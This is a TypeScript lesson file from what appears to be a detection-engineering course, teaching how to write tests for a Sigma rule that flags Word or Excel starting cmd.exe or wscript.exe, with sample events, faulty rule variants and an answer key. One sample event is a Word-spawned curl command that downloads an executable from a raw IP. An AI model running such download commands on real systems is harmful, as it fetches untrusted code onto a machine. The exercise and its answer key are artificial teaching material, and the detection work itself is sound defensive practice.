import type { Lesson } from '../../../src/teach';
import { indented, lessonText, ruleWith, sysmonStart } from './writing';

const started = (Image: string, ParentImage: string, CommandLine = Image) =>
  sysmonStart({ Image, CommandLine, User: 'LAB\\ana', ParentImage });

const WORD = 'C:\\Program Files\\LabOffice\\winword.exe';
const EXCEL = 'C:\\Program Files\\LabOffice\\excel.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const SCRIPT = 'C:\\Windows\\System32\\wscript.exe';

const shown = [
  started(CMD, WORD, 'cmd.exe /c curl http://192.0.2.44/a -o a.exe'),
  started('C:\\Windows\\System32\\splwow64.exe', WORD, 'splwow64.exe 8192'),
  started(SCRIPT, EXCEL, 'wscript.exe C:\\Users\\ana\\AppData\\Local\\Temp\\x.vbs'),
  started(CMD, EXCEL, 'cmd.exe /c C:\\LabAddin\\license.cmd'),
  started('C:\\Tools\\mycmd.exe', WORD, 'mycmd.exe --spell'),
];

const rule = ruleWith(`
title: Office Starts A Shell
logsource:
    product: windows
    category: process_creation
`);

const parent = String.raw`
selection_parent:
    ParentImage|endswith:
        - '\winword.exe'
        - '\excel.exe'
`.trim();
const shell = String.raw`
selection_shell:
    Image|endswith:
        - '\cmd.exe'
        - '\wscript.exe'
`.trim();
const filter = String.raw`
filter_main_addin:
    CommandLine|contains: ' C:\LabAddin\'
`.trim();
const CONDITION = 'condition: all of selection_* and not 1 of filter_main_*';

const of = (...parts: string[]) => rule(parts.join('\n'));

export const aTestThatBites: Lesson = {
  id: 'a-test-that-bites',
  title: 'A test that bites',
  chapter: 'Tests',
  teaches: 'Expect both what a rule finds and what it must leave',
  minutes: 5,
  text: lessonText`
The rule is right today. Tomorrow somebody tidies it up, and it still finds the event that everybody tries. Nobody
notices what got lost. A test notices: you say of each event **what must come out**, \`match\` or \`no match\`.

A test is worth as much as the faults it catches. One event that matches catches only a rule that finds nothing. So look
at the rule, part by part, and ask: if this part were gone, or wider, **which event would show it**?

- each value of a list needs an event that only it finds
- each filter needs an event that only it takes away
- each end of a name needs a near miss: \`mycmd.exe\` is not \`cmd.exe\`

Somebody has begun: event 1 must match, event 2 must not. Several faulty copies of the rule are held back, and most pass
this test. Say of the other events what must come out, too. Then all are caught.
`,
  task: 'tests',
  goal: 'Say what is expected of the events, so that the rule passes and no faulty copy of it does.',
  rule: of(parent, shell, filter, CONDITION),
  events: indented(...shown),
  expected: ['match', 'no match', null, null, null],
  held: [
    {
      kind: 'the filter is gone',
      tip: 'Expect `no match` of the event that only the filter takes away.',
      rule: of(parent, shell, 'condition: all of selection_*'),
    },
    {
      kind: 'only one of the shells is known',
      tip: 'Expect `match` of an event with the second shell.',
      rule: of(
        parent,
        String.raw`selection_shell:
    Image|endswith: '\cmd.exe'`,
        filter,
        CONDITION,
      ),
    },
    {
      kind: 'only one of the parents is known',
      tip: 'Expect `match` of an event with the second parent.',
      rule: of(
        String.raw`selection_parent:
    ParentImage|endswith: '\winword.exe'`,
        shell,
        filter,
        CONDITION,
      ),
    },
    {
      kind: 'programs whose names only end alike are found, too',
      tip: 'Expect `no match` of a program whose name only ends like that of a shell.',
      rule: of(
        parent,
        `selection_shell:
    Image|endswith:
        - 'cmd.exe'
        - 'wscript.exe'`,
        filter,
        CONDITION,
      ),
    },
    {
      kind: 'all that the parents start is found',
      tip: 'Expect `no match` of a harmless program with such a parent.',
      rule: of(parent, filter, CONDITION),
    },
  ],
  solutions: [
    {
      does: 'It says of each event what must come out.',
      expected: ['match', 'no match', 'match', 'no match', 'no match'],
    },
    {
      does: 'Three expectations are enough for these faults: each of them bites.',
      expected: [null, null, 'match', 'no match', 'no match'],
    },
  ],
  wrong: [
    {
      what: 'only events that match',
      hint: { about: 'the filter is gone', says: '`no match` of event 4' },
      expected: ['match', null, 'match', null, null],
    },
    {
      what: 'only events that do not match: a rule that finds less passes',
      hint: { about: 'only one of the shells is known', says: '`match` of event 3' },
      expected: [null, 'no match', null, 'no match', 'no match'],
    },
    {
      what: 'nothing is expected of the near miss',
      hint: { about: 'programs whose names only end alike are found, too', says: '`no match` of event 5' },
      expected: ['match', 'no match', 'match', 'no match', null],
    },
    {
      what: 'a match is expected where the filter takes the event away',
      hint: { about: 'event 4', says: 'the rule is right' },
      expected: ['match', 'no match', 'match', 'match', 'no match'],
    },
    {
      what: 'nothing is expected of the second shell and the second parent',
      hint: { about: 'only one of the shells is known', says: '`match` of event 3' },
      expected: ['match', 'no match', null, 'no match', 'no match'],
    },
  ],
  hints: [
    'Look at the rule part by part, and at the events of which nothing is expected yet.',
    'A part of the rule could be gone, and your test would not notice.',
    'Say of each event what the rule says of it, once you agree.',
  ],
};
